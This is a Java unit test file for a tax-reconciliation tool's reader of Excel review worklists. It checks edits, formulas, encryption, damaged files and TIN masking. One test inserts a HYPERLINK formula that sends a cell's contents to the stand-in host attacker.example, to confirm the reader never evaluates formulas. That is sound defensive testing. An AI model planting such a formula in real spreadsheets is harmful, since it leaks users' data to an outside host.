package io.taxrecon.reports.worklist;

import static io.taxrecon.reports.worklist.Night.TUE;
import static io.taxrecon.reports.worklist.Night.WED;
import static org.assertj.core.api.Assertions.assertThat;

import io.taxrecon.core.findings.FindingType;
import io.taxrecon.core.findings.Severity;
import io.taxrecon.core.worklist.FindingKey;
import io.taxrecon.core.worklist.NightComparison;
import io.taxrecon.core.worklist.NightView;
import io.taxrecon.core.worklist.ResolutionHints;
import io.taxrecon.core.worklist.ReviewEntry;
import io.taxrecon.core.worklist.ReviewStatus;
import io.taxrecon.reports.clientworkbook.ReportContext;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class WorklistReaderTest {

    private static final LocalDate THU = WED.plusDays(1);
    private static final String UNPOSTED = "C-1|2024|UNPOSTED_PAYMENT|P-1";
    private static final String DEADLINE = "C-2|2024|RESPONSE_DEADLINE|N-1";
    private static final String INCOME = "C-3|2024|UNREPORTED_INCOME|INTEREST";
    private static final String WITHHOLDING = "C-1|2024|WITHHOLDING_MISMATCH|FEDERAL_WITHHOLDING";
    private static final String CREDITED = "C-2|2024|UNPOSTED_PAYMENT|P-7";

    @TempDir
    Path dir;

    private final WorklistReader reader = new WorklistReader();

    private Path written(String password) throws Exception {
        Path file = dir.resolve(WorklistWorkbook.FILE_NAME);
        new WorklistWorkbook().write(Night.view(), new ReportContext(WED, "Smith CPAs", password), file);
        return file;
    }

    private static ReviewEntry entry(String key, ReviewStatus status, String assigned, LocalDate followUp, String note) {
        return new ReviewEntry(FindingKey.parse(key).orElseThrow(), status, assigned, followUp, note, THU);
    }

    private static List<ReviewEntry> entries(WorklistRead read) {
        assertThat(read).isInstanceOf(WorklistRead.Entries.class);
        return ((WorklistRead.Entries) read).entries();
    }

    private static String reason(WorklistRead read) {
        assertThat(read).isInstanceOf(WorklistRead.Unreadable.class);
        return ((WorklistRead.Unreadable) read).reason();
    }

    @Test
    void aWorklistReadBackUntouchedGivesTheEntriesItWasWrittenWith() throws Exception {
        WorklistRead read = reader.read(written(null), null, THU);

        assertThat(entries(read)).containsExactly(
                entry(DEADLINE, ReviewStatus.IN_PROGRESS, "Bob", WED, "call the client back"),
                entry(INCOME, ReviewStatus.OPEN, null, null, null),
                entry(UNPOSTED, ReviewStatus.OPEN, null, null, null),
                entry(WITHHOLDING, ReviewStatus.DISMISSED, "Ann", null, "rounding on the W-2"),
                entry(CREDITED, ReviewStatus.WAITING_ON_IRS, "Ann", null, "sent EFTPS proof"));
        assertThat(((WorklistRead.Entries) read).warnings()).isEmpty();
    }

    @Test
    void whatAReviewerDoesInExcelIsReadBackExactlyWhereverTheyMovedRowsAndColumns() throws Exception {
        Path file = written(null);
        try (Reviewer reviewer = new Reviewer(file)) {
            reviewer.set(INCOME, "Status", "Dismissed")
                    .set(INCOME, "Note", "interest is the spouse's, on her return")
                    .set(DEADLINE, "Status", "Responded")
                    .setDate(DEADLINE, "Follow-up date", LocalDate.of(2026, 12, 2))
                    .set(UNPOSTED, "Assigned to", "Carla")
                    .set(UNPOSTED, "Follow-up date", "2026-11-25")
                    .formula(UNPOSTED, "Note", "CONCATENATE(\"Called IRS, \",\"ref 12\")")
                    .reverseRows()
                    .swapColumns("Note", "Client");
            reviewer.on("Resolved").set(CREDITED, "Note", "credited: closed");
        }

        assertThat(entries(reader.read(file, null, THU))).containsExactly(
                entry(WITHHOLDING, ReviewStatus.DISMISSED, "Ann", null, "rounding on the W-2"),
                entry(UNPOSTED, ReviewStatus.OPEN, "Carla", LocalDate.of(2026, 11, 25), "Called IRS, ref 12"),
                entry(INCOME, ReviewStatus.DISMISSED, null, null, "interest is the spouse's, on her return"),
                entry(DEADLINE, ReviewStatus.RESPONDED, "Bob", LocalDate.of(2026, 12, 2), "call the client back"),
                entry(CREDITED, ReviewStatus.WAITING_ON_IRS, "Ann", null, "credited: closed"));
    }

    @Test
    void aFormulaGivesTheValueExcelCachedAndIsNeverEvaluated() throws Exception {
        Path file = written(null);
        try (Reviewer reviewer = new Reviewer(file)) {
            var cell = reviewer.cell(INCOME, "Note");
            cell.setCellFormula("\"evaluated\"");
            cell.setCellValue("as Excel saved it"); // the cached result of the formula
            var date = reviewer.cell(INCOME, "Follow-up date");
            date.setCellFormula("TODAY()+7");
            date.setCellValue(46360.0); // 2026-12-04, unformatted as a formula's result may be
            assertThat(cell.getCellFormula()).isEqualTo("\"evaluated\"");
        }

        ReviewEntry income = entries(reader.read(file, null, THU)).get(1);
        assertThat(income.note()).isEqualTo("as Excel saved it");
        assertThat(income.followUp()).isEqualTo(LocalDate.of(2026, 12, 4));
    }

    @Test
    void aHyperlinkOrArithmeticFormulaInAReviewersCellIsReadAsItsCachedValueNeverEvaluated() throws Exception {
        Path file = written(null);
        try (Reviewer reviewer = new Reviewer(file)) {
            var link = reviewer.cell(INCOME, "Note");
            link.setCellFormula("HYPERLINK(\"http://attacker.example/?q=\"&A1,\"click\")");
            link.setCellValue("click");
            var sum = reviewer.cell(UNPOSTED, "Assigned to");
            sum.setCellFormula("1+1");
            sum.setCellValue(2.0);
        }
        List<ReviewEntry> read = entries(reader.read(file, null, THU));
        ReviewEntry income = read.stream().filter(e -> e.key().equals(FindingKey.parse(INCOME).orElseThrow()))
                .findFirst().orElseThrow();
        ReviewEntry unposted = read.stream().filter(e -> e.key().equals(FindingKey.parse(UNPOSTED).orElseThrow()))
                .findFirst().orElseThrow();
        assertThat(income.note()).isEqualTo("click");
        assertThat(unposted.assignedTo()).isEqualTo("2");
    }

    @Test
    void wordsThatAreNoStatusOrNoDateAreKeptInTheNote() throws Exception {
        Path file = written(null);
        try (Reviewer reviewer = new Reviewer(file)) {
            reviewer.set(INCOME, "Status", "called client")
                    .set(INCOME, "Follow-up date", "next Tuesday")
                    .set(INCOME, "Note", "left a message")
                    .set(UNPOSTED, "Status", "waiting on the irs")
                    .set(UNPOSTED, "Follow-up date", "11/30/2026");
        }

        List<ReviewEntry> read = entries(reader.read(file, null, THU));
        assertThat(read.get(1)).isEqualTo(entry(INCOME, null, null, null,
                "[Status: called client] [Follow-up date: next Tuesday] left a message"));
        assertThat(read.get(2)).isEqualTo(entry(UNPOSTED, ReviewStatus.WAITING_ON_IRS, null, LocalDate.of(2026, 11, 30), null));
    }

    @Test
    void anEncryptedWorklistOpensWithTheRunsPasswordOnly() throws Exception {
        Path file = written("right password");

        assertThat(entries(reader.read(file, "right password", THU))).hasSize(5);
        assertThat(reason(reader.read(file, "another password", THU)))
                .isEqualTo("worklist.xlsx is encrypted with another password: the stored entries stand");
        assertThat(reason(reader.read(file, null, THU)))
                .isEqualTo("worklist.xlsx is encrypted (password-protected) and the run has no password: the stored entries stand");
    }

    @Test
    void garbageBytesAnEmptyFileAndATruncatedZipAreUnreadableWithTheirReason() throws Exception {
        Path file = dir.resolve(WorklistWorkbook.FILE_NAME);
        Files.write(file, "this is not a workbook at all, just text".getBytes());
        assertThat(reason(reader.read(file, null, THU)))
                .isEqualTo("worklist.xlsx is not an Excel workbook (unknown content): the stored entries stand");

        Files.write(file, new byte[0]);
        assertThat(reason(reader.read(file, null, THU)))
                .isEqualTo("worklist.xlsx is not an Excel workbook (empty): the stored entries stand");

        byte[] whole = Files.readAllBytes(written(null));
        Files.write(file, Arrays.copyOf(whole, whole.length / 2));
        assertThat(reason(reader.read(file, null, THU)))
                .startsWith("worklist.xlsx is damaged and cannot be read (")
                .endsWith("): the stored entries stand")
                .doesNotContain("\n");
    }

    @Test
    void aWorklistThatCannotBeOpenedIsUnreadableAndNoWorklistIsMissing() {
        assertThat(reader.read(dir.resolve("worklist.xlsx"), null, THU)).isEqualTo(new WorklistRead.Missing());
        // A directory in its place fails to open as a locked file does: with an IOException.
        assertThat(reason(reader.read(dir, null, THU))).endsWith(
                " is locked or not readable (open in Excel on another computer?): the stored entries stand");
    }

    @Test
    void aMissingKeyOrReviewersColumnOrSheetIsUnreadableRatherThanReadAsEmpty() throws Exception {
        Path file = written(null);
        try (Reviewer reviewer = new Reviewer(file)) {
            reviewer.renameHeader("Note", "Comments");
        }
        assertThat(reason(reader.read(file, null, THU))).isEqualTo(
                "worklist.xlsx: the Open sheet has no \"Note\" column (renamed or deleted?): the stored entries stand");

        try (Reviewer reviewer = new Reviewer(written(null))) {
            reviewer.renameHeader("Key", "");
        }
        assertThat(reason(reader.read(file, null, THU))).isEqualTo(
                "worklist.xlsx: the Open sheet has no Key column: the stored entries stand");

        try (Reviewer reviewer = new Reviewer(written(null))) {
            reviewer.workbook().setSheetName(0, "Mine");
        }
        assertThat(reason(reader.read(file, null, THU))).isEqualTo(
                "worklist.xlsx has no \"Open\" sheet (renamed or deleted?): the stored entries stand");
    }

    @Test
    void headersRetypedInAnotherCaseStillRead() throws Exception {
        Path file = written(null);
        try (Reviewer reviewer = new Reviewer(file)) {
            reviewer.renameHeader("Follow-up date", "FOLLOW UP DATE").renameHeader("Note", "Notes");
        }
        assertThat(entries(reader.read(file, null, THU)).get(0).followUp()).isEqualTo(WED);
    }

    @Test
    void aRowWithAnEditedKeyIsNotReadAndSaysSoWithoutAFullTin() throws Exception {
        NightView view = new NightComparison(WED, List.of()).compare(List.of(
                Night.finding("C-1", FindingType.IDENTITY_MISMATCH, "123456789", Severity.LOW, null, null)),
                null, List.of(), List.of(), ResolutionHints.none());
        Path file = dir.resolve(WorklistWorkbook.FILE_NAME);
        new WorklistWorkbook().write(view, new ReportContext(WED, null), file);
        try (Reviewer reviewer = new Reviewer(file)) {
            reviewer.set("C-1|2024|IDENTITY_MISMATCH|123456789", "Note", "TIN 123-45-6789 checked");
            var sheet = reviewer.workbook().getSheet("Open");
            var copy = sheet.createRow(2);
            copy.createCell(13).setCellValue("second thoughts");
            copy.createCell(14).setCellValue("C-1|2024|IDENTITY_MISMATCH|123456789");
            var typed = sheet.createRow(3);
            typed.createCell(13).setCellValue("a row I added");
            typed.createCell(14).setCellValue("my own key 987-65-4321");
        }

        WorklistRead.Entries read = (WorklistRead.Entries) reader.read(file, null, THU);
        assertThat(read.entries()).extracting(ReviewEntry::note).containsExactly("TIN 123-45-6789 checked");
        assertThat(read.warnings()).containsExactly(
                "the Open sheet, row 3: a second row of finding C-1|2024|IDENTITY_MISMATCH|***-**-6789: the first is read",
                "the Open sheet, row 4: no key the worklist wrote (edited or typed in?): not read");
    }

    @Test
    void anExcelOwnerFileBesideTheWorklistIsAWarning() throws Exception {
        Path file = written(null);
        Files.writeString(dir.resolve("~$rklist.xlsx"), "owner");
        WorklistRead.Entries read = (WorklistRead.Entries) reader.read(file, null, THU);
        assertThat(read.warnings()).containsExactly(
                "worklist.xlsx is open in Excel (~$rklist.xlsx exists): what has not been saved is not read");
    }

    @Test
    void aWorklistWrittenReadAndWrittenAgainKeepsEveryWord() throws Exception {
        Path file = written(null);
        try (Reviewer reviewer = new Reviewer(file)) {
            reviewer.set(INCOME, "Note", "asked for the 1099-INT");
        }
        List<ReviewEntry> thursday = entries(reader.read(file, null, THU));
        NightView next = new NightComparison(THU, List.of(TUE, WED)).compare(List.of(Night.UNPOSTED, Night.INCOME), WED,
                Night.view().toStore(), thursday, ResolutionHints.none());
        new WorklistWorkbook().write(next, new ReportContext(THU, null), file);

        List<ReviewEntry> friday = entries(reader.read(file, null, THU.plusDays(1)));
        assertThat(friday).extracting(e -> e.key().text(), ReviewEntry::note).containsExactlyInAnyOrder(
                org.assertj.core.groups.Tuple.tuple(INCOME, "asked for the 1099-INT"),
                org.assertj.core.groups.Tuple.tuple(UNPOSTED, null),
                org.assertj.core.groups.Tuple.tuple(DEADLINE, "call the client back"),
                org.assertj.core.groups.Tuple.tuple(WITHHOLDING, "rounding on the W-2"),
                org.assertj.core.groups.Tuple.tuple(CREDITED, "sent EFTPS proof"));
    }
}
